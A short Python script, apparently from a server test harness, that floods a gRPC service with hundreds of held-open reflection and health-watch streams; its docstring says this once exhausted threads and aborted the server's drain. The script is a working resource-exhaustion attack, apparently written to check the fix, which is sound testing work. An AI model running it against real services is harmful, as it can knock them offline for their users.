"""Streams of reflection and health watches that are opened and left open, by the hundred.

Before: gRPC's reflection is a synchronous service: 1024 open streams were 1037 threads. Where threads run out (ulimit
-u) the drain aborts.
"""

import time

import http2
import wire
from attack import Attack, Target, run


def open_streams(method: str, message: bytes):
    def attack(target: Target) -> None:
        connections = [target.connect(i) for i in range(16)]
        for connection in connections:
            for _ in range(100):
                call = connection.begin(method)
                connection.message(call, message)
        for _ in range(int(target.seconds * 10)):
            for connection in connections:
                connection.poll(0)
            time.sleep(0.1)

    return attack


open_reflection = open_streams(http2.REFLECTION, wire.field(7, "*"))

if __name__ == "__main__":
    run(Attack([open_reflection, open_streams(http2.HEALTH_WATCH, b"")]))
